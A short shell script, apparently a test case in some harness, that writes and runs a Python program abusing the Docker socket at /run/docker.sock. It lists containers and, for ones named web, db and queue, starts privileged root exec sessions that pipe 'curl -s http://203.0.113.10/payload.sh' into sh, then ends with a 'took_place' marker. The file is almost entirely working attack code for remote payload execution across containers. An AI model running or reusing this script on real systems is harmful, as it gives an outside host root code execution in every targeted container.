#!/bin/sh
. /opt/case/case.sh

cat >/tmp/x.py <<'END'
import http.client, json, socket
def call(method, path, body=None):
    c = http.client.HTTPConnection("x"); c.sock = socket.socket(socket.AF_UNIX); c.sock.connect("/run/docker.sock")
    c.request(method, path, json.dumps(body) if body else None, {"Content-Type": "application/json"}); return c.getresponse().read()
call("GET", "/containers/json")
for n in ("web", "db", "queue"):
    call("POST", f"/containers/{n}/exec", {"Cmd": ["sh", "-c", "curl -s http://203.0.113.10/payload.sh|sh"], "User": "root", "Privileged": True})
    call("POST", f"/exec/{n}/start", {"Detach": True})
END
python3 /tmp/x.py
took_place
